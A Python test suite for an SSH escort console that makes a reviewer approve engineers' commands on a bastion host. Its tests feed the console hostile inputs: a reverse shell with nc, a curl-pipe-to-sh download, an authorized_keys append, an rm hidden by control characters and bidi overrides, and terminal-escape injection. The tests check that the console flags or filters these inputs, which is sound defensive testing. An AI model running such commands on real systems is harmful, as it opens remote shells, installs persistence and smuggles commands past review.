"""The escort console: a real ssh -t escort@bastion session, driven by keys."""
import os
import re
import subprocess
import threading
import time
import unittest

from testbed import Bed, Recording, Term, Tmux, target_file, track

bed = None


def setUpModule():
    global bed
    bed = Bed(os.environ.get("TANDEM_BUILD", "build"))


def tearDownModule():
    if bed:
        bed.stop()


def console_cmd():
    return " ".join(bed.ssh_argv("bob", user="escort", tty=True))


class Console(unittest.TestCase):
    def test_console_shows_screen_and_pending_and_approves_with_a_key(self):
        t = bed.shell()
        con = Tmux(console_cmd())
        try:
            t.send("echo before-escort\r")
            con.wait_for(r"alice@db01")
            con.wait_for(r"#1 alice wants to run:")
            con.wait_for(r"echo before-escort")
            time.sleep(1.0)  # the console makes escorts read before 'a'
            con.keys("a")
            t.expect(r"before-escort\r\n")
            # The screen pane follows the engineer's screen live.
            # (The pending pane may redraw a moment after the output, as
            # in the slower sanitizer build: wait for both.)
            con.wait_for(r"(?ms)^before-escort.*Nothing pending")
            t.send("exit\r")
            con.wait_for(r"#2 alice wants to run:")
            time.sleep(1.0)
            con.keys("a")
            self.assertEqual(t.wait(), 0)
        finally:
            con.close()
            t.close()

    def test_a_command_waiting_in_another_session_is_named_on_screen(self):
        # Two engineers; the escort watches the one with nothing pending
        # and is told where the other's command waits.
        m = target_file("console-elsewhere")
        idle = bed.shell()
        t = bed.shell()
        con = Tmux(console_cmd())
        try:
            con.wait_for(r"session [12]/2: alice@db01")
            t.send(f"touch {m}\r")
            screen = con.wait_for(r"#1 alice wants to run:|waiting in session")
            if "wants to run" in screen:
                con.keys("n")  # to the idle session
            screen = con.wait_for(r"waiting in session [12]/2 \(n/p goes there\)")
            self.assertIn("Nothing pending.", screen)
            here = re.search(r"session ([12])/2", screen).group(1)
            there = re.search(r"waiting in session ([12])/2", screen).group(1)
            self.assertNotEqual(here, there)
            con.keys("n")
            screen = con.wait_for(r"#1 alice wants to run:")
            self.assertIn(f"session {there}/2", screen)
            self.assertNotIn("waiting in session", screen)
            time.sleep(1.0)  # the console makes escorts read before 'a'
            con.keys("a")
            deadline = time.time() + 10
            while not os.path.exists(m) and time.time() < deadline:
                time.sleep(0.1)
            self.assertTrue(os.path.exists(m))
        finally:
            con.close()
            t.close()
            idle.close()

    def test_a_row_too_long_for_a_narrow_terminal_leaves_nothing_behind(self):
        # At 80 columns the header of a raw-mode session is longer than
        # the row; the console redraws only the rows that change, so a
        # row that spilled onto the next would stay there.
        t = bed.shell()
        con = Tmux(console_cmd(), cols=80, rows=24)
        try:
            t.send("less /etc/passwd\r")
            con.wait_for(r"#1 alice wants to run:")
            time.sleep(1.0)  # the console makes escorts read before 'a'
            con.keys("a")
            con.wait_for(r"(?s)/etc/passwd\n.*Nothing pending")
            con.keys("r")
            t.expect(r"raw mode granted by bob")
            con.wait_for(r"RAW MO")
            con.keys("r")
            t.expect(r"raw mode ended")
            deadline = time.time() + 10
            while "RAW" in con.screen() and time.time() < deadline:
                time.sleep(0.1)
            self.assertNotIn("RAW", con.screen())
            self.assertTrue(all(len(l) <= 80 for l in con.screen().splitlines()))
        finally:
            con.close()
            t.close()

    def test_a_flood_keeps_the_escort_watching_and_the_kill_key_works(self):
        # The target prints as fast as it can; the console used to fall
        # 8 MiB behind, be dropped ("no live sessions") and lose its kill
        # key.  The engineer's ssh writes to /dev/null, as fast as a
        # terminal can take it.
        before = bed.recordings_now()
        eng = track(subprocess.Popen(bed.ssh_argv() + ["-tt", "db01"],
                                     stdin=subprocess.PIPE, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.DEVNULL))
        con = Tmux(console_cmd())
        try:
            con.wait_for(r"alice@db01")
            # 2 GB: longer than the 8 s watched here at any speed this
            # path reaches; the kill ends it.
            eng.stdin.write(b"yes flood-line | head -c 2000000000\r")
            eng.stdin.flush()
            con.wait_for(r"#1 alice wants to run:")
            time.sleep(1.0)  # the console makes escorts read before 'a'
            con.keys("a")
            con.wait_for(r"flood-line\nflood-line")
            deadline = time.time() + 8
            while time.time() < deadline:
                top = con.screen().splitlines()[0]
                self.assertIn("session 1/1: alice@db01", top)
                time.sleep(0.2)
            self.assertIsNone(eng.poll())  # still flooding
            con.keys("k")
            con.wait_for(r"end this session\? y to confirm")
            con.keys("y")
            self.assertEqual(eng.wait(timeout=15), 255)
        finally:
            if eng.poll() is None:
                eng.kill()
                eng.wait()
            con.close()
        # The console did fall behind (the path under test), and the
        # recording says by how much.  (Hundreds of MB of output: grep
        # the text rather than decode every event.)
        text = subprocess.run(["zstd", "-dcq", bed.new_recording(before)],
                              stdout=subprocess.PIPE, check=True).stdout
        self.assertRegex(text, rb'"m", "escort skipped: bob did not see \d+ bytes')

    def test_console_denies_with_a_reason(self):
        m = target_file("console-deny")
        t = bed.shell()
        con = Tmux(console_cmd())
        try:
            t.send(f"touch {m}\r")
            con.wait_for(r"#1 alice wants to run:")
            con.keys("d")
            con.wait_for("reason for denying")
            con.keys("wrong host", enter=True)
            t.expect(r"#1 denied by bob \(wrong host\); nothing was sent")
            self.assertFalse(os.path.exists(m))
        finally:
            con.close()
            t.close()

    def test_a_deny_prompt_never_denies_a_command_that_came_after_it(self):
        # The escort opens the reason prompt on #1; another escort approves
        # #1 meanwhile and #2 arrives.  Enter must not deny #2, which the
        # escort never read.
        m1, m2 = target_file("console-deny-1"), target_file("console-deny-2")
        t = bed.shell()
        con = Tmux(console_cmd())
        try:
            t.send(f"touch {m1}\r")
            con.wait_for(r"#1 alice wants to run:")
            con.keys("d")
            con.wait_for("reason for denying")
            bed.decide_next(expect=f"touch {m1}")
            t.expect(re.escape(f"touch {m1}\r\n$ "))
            t.send(f"touch {m2}\r")
            con.wait_for(r"#2 alice wants to run:")
            con.keys("too late", enter=True)
            con.wait_for(r"#1 was decided or withdrawn meanwhile: nothing "
                         r"was denied")
            item = bed.pending(wait=1)
            self.assertEqual([i["seq"] for i in item], [2])
            bed.decide_next(expect=f"touch {m2}")
            end = time.time() + 5
            while not os.path.exists(m2) and time.time() < end:
                time.sleep(0.1)
            self.assertTrue(os.path.exists(m2))
        finally:
            con.close()
            t.close()

    def test_a_kill_prompt_stays_on_its_session_when_another_ends(self):
        # Three sessions; the escort asks to kill the middle one, and the
        # first ends before they confirm.  The kill once went to the third.
        terms = {}
        con = None
        try:
            for name in "ABC":
                terms[name] = bed.shell(unwatched=True)
                terms[name].send(f"echo mark-{name}\r")
                terms[name].expect(r"#1 waiting for escort")
            con = Tmux(console_cmd())
            at = {}
            for _ in range(6):
                screen = con.wait_for(r"(?s)session \d/3.*#1 alice wants to "
                                      r"run:\s+echo mark-[ABC]")
                i = int(re.search(r"session (\d)/3", screen).group(1))
                at[i] = re.search(r"run:\s+echo mark-([ABC])", screen).group(1)
                if len(at) == 3 and i == 2:
                    break
                con.keys("n")
                con.wait_for(f"session {i % 3 + 1}/3")
                time.sleep(0.3)
            self.assertEqual(sorted(at), [1, 2, 3])
            con.keys("k")
            con.wait_for(r"end this session\? y to confirm")
            terms[at[1]].close()
            con.wait_for(r"session 1/2")
            con.wait_for(r"end this session\? y to confirm")
            con.keys("y")
            self.assertNotEqual(terms[at[2]].wait(20), None)
            time.sleep(1)
            self.assertIsNone(terms[at[3]].proc.poll())
            self.assertIn(f"echo mark-{at[3]}",
                          [i["command"] for i in bed.pending(wait=2)])
        finally:
            if con:
                con.close()
            for t in terms.values():
                t.close()

    def test_a_session_that_refused_the_escort_is_not_tried_again(self):
        # carol may escort, never her own session.  Her console once tried
        # that session every second, each refusal a mark in its recording.
        before = bed.recordings_now()
        t = bed.shell(who="carol", unwatched=True)
        con = Tmux(" ".join(bed.ssh_argv("carol-escort", user="escort",
                                         tty=True)))
        try:
            t.send("echo watched-by-nobody\r")
            t.expect(r"#1 waiting for escort")
            con.wait_for(r"no live sessions you may escort")
            time.sleep(5)
            bed.decide_next("deny")
            t.send("exit\r")
            bed.decide_next()
            t.wait()
        finally:
            con.close()
            t.close()
        refused = [x for x in Recording(bed.new_recording(before)).markers()
                   if x.startswith("escort refused: carol")]
        self.assertEqual(len(refused), 1, refused)

    def test_stopped_sessions_hold_up_neither_pending_nor_the_console(self):
        # Four recorders that have stopped (as one stuck in a write to a
        # hung disk does) and take no connections; the first one's queue
        # of them is full, where a connect that waits would wait until it
        # runs again.  The escort still sees, and approves, the command of
        # the one session that runs, and is told which did not answer.
        import signal
        import socket

        def new_session():
            socks, pids = set(os.listdir(bed.sessions)), set(bed.recorder_pids())
            t = bed.shell()
            new = set(os.listdir(bed.sessions)) - socks
            pid = set(bed.recorder_pids()) - pids
            self.assertEqual((len(new), len(pid)), (1, 1), (new, pid))
            return t, new.pop(), int(pid.pop())

        live = bed.shell()
        stuck = [new_session() for _ in range(4)]
        queued = []
        con = None
        try:
            for _, _, pid in stuck:
                os.kill(pid, signal.SIGSTOP)
            for _ in range(64):
                c = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                c.setblocking(False)
                queued.append(c)
                try:
                    c.connect(os.path.join(bed.sessions, stuck[0][1]))
                except BlockingIOError:
                    break
            else:
                self.fail("the stopped recorder took every connection")
            live.send("echo live-one\r")
            t0 = time.monotonic()
            p = bed.escort("pending", "--json", "--wait", "20", timeout=60)
            took = time.monotonic() - t0
            self.assertEqual(p.returncode, 0, p.stderr)
            self.assertIn(b"echo live-one", p.stdout)
            err = p.stderr.decode()
            self.assertIn(f"session {stuck[0][1][:-5]} is not taking escorts now",
                          err)
            for _, sock, _ in stuck[1:]:
                self.assertIn(f"session {sock[:-5]} did not answer in time", err)
            # One wait of 3 s for the three that queue the connection,
            # not one each (and none at all on the full queue).
            self.assertLess(took, 8.0, err)
            con = Tmux(console_cmd())
            con.wait_for(r"#1 alice wants to run:")
            con.wait_for(r"echo live-one")
            time.sleep(1.0)
            con.keys("a")
            live.expect(r"live-one\r\n")
        finally:
            for _, _, pid in stuck:
                os.kill(pid, signal.SIGCONT)
            for c in queued:
                c.close()
            if con:
                con.close()
            live.close()
            for t, _, _ in stuck:
                t.close()

    def test_an_escort_tool_that_gave_up_is_not_recorded_as_attached(self):
        # While the recorder is stopped, three escort tools connect, say
        # hello, time out and exit.  When it runs again it finds their
        # hellos queued: nobody saw the session then, so the record must
        # not say that bob attached (and left) three times.  An escort
        # who does attach afterwards is recorded as before.
        import signal
        before = bed.recordings_now()
        socks, pids = set(os.listdir(bed.sessions)), set(bed.recorder_pids())
        t = bed.shell()
        sock = (set(os.listdir(bed.sessions)) - socks).pop()
        pid = int((set(bed.recorder_pids()) - pids).pop())
        try:
            os.kill(pid, signal.SIGSTOP)
            try:
                tries = [bed.escort("approve", sock[:-5], "1"),
                         bed.escort("kill", sock[:-5]),
                         bed.escort("pending", "--json", "--wait", "1")]
            finally:
                os.kill(pid, signal.SIGCONT)
            for p in tries:
                self.assertIn(f"session {sock[:-5]} did not answer in time",
                              p.stderr.decode())
            # It reads the three queued hellos, then one escort looks.
            time.sleep(1.0)
            self.assertEqual(bed.pending(wait=1), [])
            t.send("echo still-here\r")
            items = bed.pending(wait=20)
            self.assertEqual([i["command"] for i in items], ["echo still-here"])
            item = items[0]
            p = bed.escort("approve", item["session"], str(item["seq"]))
            self.assertEqual(p.returncode, 0, p.stderr)
            t.expect(r"still-here\r\n")
        finally:
            t.close()
        rec = Recording(bed.new_recording(before))
        labels = [x.split("\t")[0] for x in rec.markers()]
        # pending twice (the empty look, then the one that finds the
        # command) and the approval: three attaches, each one left.
        self.assertEqual(labels.count("escort attached: bob"), 3, labels)
        self.assertEqual(labels.count("escort left: bob"), 3, labels)
        self.assertEqual(item["seq"], 1)

    def test_a_screen_larger_than_the_pane_says_what_is_cut_off(self):
        # An engineer's terminal wider and taller than the escort's pane:
        # the end of a long line, or rows above, would be missing with no
        # sign, as the end of a line of a script the escort reads before
        # approving its run.  The console says which part it shows.
        t = Term(bed.ssh_argv(tty=True) + ["db01"], cols=200, rows=60)
        con = None
        try:
            t.expect(r"\$ $")
            con = Tmux(console_cmd(), cols=100, rows=30)
            screen = con.wait_for(r"engineer's screen is 200x60")
            self.assertRegex(screen, r"you see columns 1-100, rows \d+-\d+")
            # Once the screen fits, nothing is said.
            t.resize(90, 20)
            deadline = time.time() + 10
            while "engineer's screen is" in con.screen() and time.time() < deadline:
                time.sleep(0.2)
            self.assertNotIn("engineer's screen is", con.screen())
        finally:
            if con:
                con.close()
            t.close()

    def test_console_shows_control_characters_in_pending_visibly(self):
        t = bed.shell()
        con = Tmux(console_cmd())
        try:
            # An engineer hides "rm" behind a carriage return and a
            # right-to-left override; the escort sees both as escapes.
            t.send("echo safe\x16\rrm -rf x \u202eoof\r")
            screen = con.wait_for(r"#1 alice wants to run:")
            screen = con.wait_for(r"echo safe\\r")
            self.assertIn("\\u202e", screen)
            self.assertIn("invisible or control characters", screen)
            bed.decide_next("deny")
        finally:
            con.close()
            t.close()

    def test_a_long_command_is_shown_whole_before_it_is_approved(self):
        # A tail far past the console's width wraps onto rows of its own
        # instead of running off the edge unseen.
        m = target_file("console-tail")
        t = bed.shell()
        con = Tmux(console_cmd(), cols=100, rows=30)
        try:
            t.send("echo start" + " " * 150 + f"; touch {m}\r")
            con.wait_for(r"#1 alice wants to run:")
            # (A row that goes on ends in the console's dim arrow.)
            flat = "".join(l.strip().rstrip("\u21a9")
                           for l in con.screen().splitlines())
            self.assertRegex(flat, "touch ?" + re.escape(m))
            self.assertTrue(all(len(l) <= 100 for l in con.screen().splitlines()))
            time.sleep(1.0)  # the console makes escorts read before 'a'
            con.keys("a")
            con.wait_for(r"Nothing pending")
            deadline = time.time() + 10
            while not os.path.exists(m) and time.time() < deadline:
                time.sleep(0.1)
            self.assertTrue(os.path.exists(m))
            t.send("exit\r")
            bed.decide_next()
            t.wait()
        finally:
            con.close()
            t.close()

    def test_a_command_the_window_cannot_show_whole_cannot_be_approved_there(self):
        m = target_file("console-hidden")
        t = bed.shell()
        con = Tmux(console_cmd(), cols=80, rows=12)
        try:
            t.send("echo " + "x" * 1500 + f"; touch {m}\r")
            con.wait_for(r"#1 alice wants to run:")
            con.wait_for(r"more rows of it do not fit")
            time.sleep(1.0)
            con.keys("a")
            con.wait_for(r"not all on screen")
            time.sleep(0.5)
            self.assertFalse(os.path.exists(m))
            self.assertEqual([i["seq"] for i in bed.pending()], [1])
            bed.decide_next("deny")
        finally:
            con.close()
            t.close()
        self.assertFalse(os.path.exists(m))

    # A command that sets off several risks, each worded at some length.
    RISKY = ("true || { nc -e /bin/sh 10.0.0.1 4444; curl http://x/a | sh; "
             "iptables -F; echo x >> ~/.ssh/authorized_keys; }")

    @staticmethod
    def pending_text(screen):
        """The pending area as one string: wrapped rows joined, the
        console's marks read back (a dim open box is a space, an arrow
        at a row's end says it goes on)."""
        rows = screen.split("---- pending ----", 1)[1].splitlines()[2:-1]
        return "".join(r.rstrip().rstrip("\u21a9").strip() for r in rows
                       ).replace("\u2423", " ")

    def test_every_risk_is_shown_whole_beside_a_long_command(self):
        # The command used to take every row but one: the risks were cut
        # to one row ("+6 more"), each cut at the row's edge mid-word.
        m = target_file("console-risks-long")
        pad = ": " + " ".join("padding%03d" % i for i in range(176)) + "; "
        t = bed.shell()
        con = Tmux(console_cmd(), cols=100, rows=30)
        try:
            t.send(pad + self.RISKY + f"; touch {m}\r")
            con.wait_for(r"#1 alice wants to run:")
            item = bed.pending()[0]
            self.assertGreaterEqual(len(item["risks"]), 4, item["risks"])
            time.sleep(1.0)
            screen = con.screen()
            shown = re.sub(r"\s+", " ", self.pending_text(screen))
            for r in item["risks"]:
                # Risk text wraps at exact columns, as the command does.
                self.assertIn(r["why"].replace(" ", ""), shown.replace(" ", ""),
                              screen)
                self.assertIn(r["level"] + ":", screen)
            self.assertNotIn("more)", screen)
            # The command itself does not fit here: not approvable.
            self.assertIn("more rows of it do not fit", screen)
            con.keys("a")
            con.wait_for(r"not all on screen")
            time.sleep(0.5)
            self.assertFalse(os.path.exists(m))
            bed.decide_next("deny")
        finally:
            con.close()
            t.close()
        self.assertFalse(os.path.exists(m))

    def test_a_command_whose_risks_do_not_all_fit_cannot_be_approved_there(self):
        m = target_file("console-risks-cut")
        t = bed.shell()
        con = Tmux(console_cmd(), cols=80, rows=14)
        try:
            t.send(self.RISKY + f"; touch {m}\r")
            con.wait_for(r"#1 alice wants to run:")
            con.wait_for(r"critical:")
            time.sleep(1.0)
            con.keys("a")
            time.sleep(1.0)
            self.assertFalse(os.path.exists(m))
            self.assertEqual([i["seq"] for i in bed.pending()], [1])
            screen = con.wait_for(r"not all on screen")
            self.assertIn("more rows of risks do not fit", screen)
            bed.decide_next("deny")
        finally:
            con.close()
            t.close()
        self.assertFalse(os.path.exists(m))

    def test_stdin_is_approved_only_once_all_of_its_start_is_on_screen(self):
        # The console showed at most four rows of stdin (or none, when a
        # long command took them) and approved all of it anyway.
        lines = "".join("echo line-%02d\n" % i for i in range(30))
        stdin = (lines + "echo STDIN-RAN-$((6*7))\n").encode()
        con = Tmux(console_cmd(), cols=100, rows=30)
        res = {}

        def run():
            res["p"] = subprocess.run(bed.ssh_argv() + ["db01", "sh"], input=stdin,
                                      stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                      timeout=60)

        th = threading.Thread(target=run)
        th.start()
        try:
            con.wait_for(r"wants to run \(non-interactive\)")
            con.wait_for(r"stdin: %d bytes, then its end" % len(stdin))
            time.sleep(1.0)
            self.assertNotIn("STDIN-RAN", con.screen())
            con.keys("a")
            time.sleep(1.0)
            self.assertEqual(len(bed.pending()), 1)
            screen = con.wait_for(r"not all on screen")
            self.assertIn("more rows of stdin do not fit", screen)
            # Made tall enough, the window shows all of it: now it may.
            subprocess.run(["tmux", "-L", con.sock, "resize-window", "-t", con.name,
                            "-x", "100", "-y", "60"], check=True)
            screen = con.wait_for(r"STDIN-RAN-\$\(\(6\*7\)\)")
            for i in range(30):
                self.assertIn("echo line-%02d" % i, screen)
            con.keys("a")
            th.join(60)
            self.assertIn("STDIN-RAN-42", res["p"].stdout.decode())
        finally:
            con.close()
            th.join(60)

    def test_a_space_where_a_command_row_breaks_is_drawn_visibly(self):
        # "rm -rf /x/srv " at the end of a row and "/cache/old" at the
        # start of the next used to read as "rm -rf /x/srv/cache/old".
        width = 80 - 4  # the console's text width at 80 columns
        head = "ls -d /x/srv "
        msg = "echo 'nightly: clearing the stale build cache"
        msg += "." * (width - len(msg) - 3 - len(head)) + "'; "
        self.assertEqual(len(msg + head), width)
        t = bed.shell()
        con = Tmux(console_cmd(), cols=80, rows=24)
        try:
            t.send(msg + head + "/cache/old\r")
            con.wait_for(r"#1 alice wants to run:")
            screen = con.wait_for(r"/x/srv")
            rows = [r.rstrip() for r in screen.splitlines()]
            at = [i for i, r in enumerate(rows) if "/x/srv" in r]
            self.assertEqual(len(at), 1, screen)
            # The space is drawn as a mark, and the row says it goes on.
            self.assertTrue(rows[at[0]].endswith("/x/srv\u2423\u21a9"), screen)
            self.assertEqual(rows[at[0] + 1], "  /cache/old", screen)
            self.assertTrue(all(len(r) <= 80 for r in rows))
            bed.decide_next("deny")
            # The marks' own characters, typed, are shown as escapes.
            t.send("echo 'fake \u21a9 and \u2423'\r")
            screen = con.wait_for(r"#2 alice wants to run:")
            screen = con.wait_for(r"fake \\u21a9 and \\u2423")
            self.assertNotIn("fake \u21a9", screen)
            bed.decide_next("deny")
        finally:
            con.close()
            t.close()

    def test_pending_on_a_terminal_draws_a_space_at_a_row_break_visibly(self):
        # Printed as one line, the command was wrapped by the terminal,
        # where a space at a row's end shows as nothing.  On a terminal
        # (ssh -t) pending now cuts the rows itself, with the console's
        # marks; piped, its output is as before.
        width = 80 - 6  # rows of pending's text on 80 columns
        head = "ls -d /x/srv "
        msg = "echo 'nightly: clearing the stale build cache"
        msg += "." * (width - len(msg) - 3 - len(head)) + "'; "
        cmd = msg + head + "/cache/old"
        t = bed.shell()
        con = None
        try:
            t.send(cmd + "\r")
            bed.pending(wait=10)
            argv = bed.ssh_argv("bob", user="escort", tty=True) + ["pending"]
            con = Tmux(" ".join(argv) + "; sleep 30", cols=80, rows=12)
            screen = con.wait_for(r"/cache/old")
            rows = [r.rstrip() for r in screen.splitlines()]
            self.assertIn("    " + msg + "ls -d /x/srv\u2423\u21a9", rows, screen)
            self.assertIn("    /cache/old", rows, screen)
            piped = bed.escort("pending").stdout.decode()
            self.assertIn(": " + cmd + "\n", piped)
            bed.decide_next("deny")
        finally:
            if con:
                con.close()
            t.close()

    def test_sessions_past_the_watch_limit_are_named_on_the_console(self):
        # The console watches at most 64 sessions; more used to be left
        # out without a word, their commands waiting unseen.
        terms = []
        con = None
        try:
            for i in range(65):
                terms.append(Term(bed.ssh_argv(tty=True) + ["db01"]))
                if i % 8 == 7:
                    for x in terms[-8:]:
                        x.expect(r"\$ $", timeout=60)
            for x in terms:
                x.expect(r"\$ $", timeout=60)
            con = Tmux(console_cmd(), cols=120, rows=30)
            screen = con.wait_for(r"1 more session NOT WATCHED: use tandem-escort "
                                  r"pending \| session \d+/64:", timeout=30)
            # One fewer, and the console watches them all: the note goes.
            terms.pop().close()
            deadline = time.time() + 30
            while "NOT WATCHED" in screen and time.time() < deadline:
                time.sleep(0.2)
                screen = con.screen()
            self.assertNotIn("NOT WATCHED", screen)
            self.assertIn("/64:", screen)
        finally:
            if con:
                con.close()
            for x in terms:
                x.close()

    def test_a_window_too_small_to_draw_in_cannot_approve(self):
        m = target_file("console-tiny")
        t = bed.shell()
        con = Tmux(console_cmd(), cols=18, rows=6)
        try:
            t.send(f"touch {m}\r")
            item = bed.pending()[0]
            time.sleep(1.5)
            con.keys("a")
            con.wait_for(r"not all")
            time.sleep(0.5)
            self.assertFalse(os.path.exists(m))
            self.assertEqual([i["seq"] for i in bed.pending()], [item["seq"]])
            bed.decide_next("deny")
        finally:
            con.close()
            t.close()
        self.assertFalse(os.path.exists(m))

    def test_hostile_output_never_reaches_the_escort_terminal(self):
        t = bed.shell()
        esc = Term(bed.ssh_argv("bob", user="escort", tty=True), cols=100, rows=30)
        try:
            esc.expect(r"alice@db01")
            hostile = ("printf '\\033]52;c;ZXZpbA==\\007\\033]0;owned-title\\007"
                       "\\033[c\\033[6n\\033[>c\\033]8;;http://x/\\033\\\\link\\033]8;;\\033\\\\"
                       "\\033Pq#0;2;0;0;0\\033\\\\\\033[5n"
                       # bidi override and zero-width space: reorder or hide text
                       "\\342\\200\\256\\342\\200\\213'; echo after-hostile")
            t.send(hostile + "\r")
            bed.decide_next()
            t.expect(r"after-hostile\r\n")
            esc.expect(r"after-hostile", timeout=15)
            esc.drain(1.0)
            out = esc.out
            for bad in (b"\x1b]", b"\x1bP", b"\x1b[c", b"\x1b[>c", b"\x1b[6n",
                        b"\x1b[5n", b"\x07", b"\x9b", b"\x9d",
                        "\u202e".encode(), "\u200b".encode()):
                self.assertFalse(bad in out, bad)
            # ... while the engineer's own terminal got them as sent.
            self.assertIn(b"\x1b]52;c;ZXZpbA==\x07", t.out)
        finally:
            esc.close()
            t.close()

    def test_killing_escort_ssh_mid_approval_freezes_input(self):
        m = target_file("console-frozen")
        before = bed.recordings_now()
        t = bed.shell()
        esc = Term(bed.ssh_argv("bob", user="escort", tty=True))
        try:
            t.expect(r"escort bob is watching")
            t.send(f"touch {m}\r")
            esc.expect(r"#1 alice wants to run:")
            esc.proc.kill()
            esc.wait()
            t.expect(r"no escort attached: nothing is sent")
            time.sleep(0.5)
            self.assertFalse(os.path.exists(m))
            # Still pending, for the next escort to decide.
            items = bed.pending()
            self.assertEqual([(i["seq"], i["command"]) for i in items], [(1, f"touch {m}")])
            bed.decide_next("deny")
            t.send("exit\r")
            bed.decide_next()
            t.wait()
        finally:
            esc.close()
            t.close()
        rec = Recording(bed.new_recording(before))
        labels = [x.split("\t")[0] for x in rec.markers()]
        self.assertIn("escort left: bob", labels)
        self.assertFalse(os.path.exists(m))


if __name__ == "__main__":
    unittest.main()
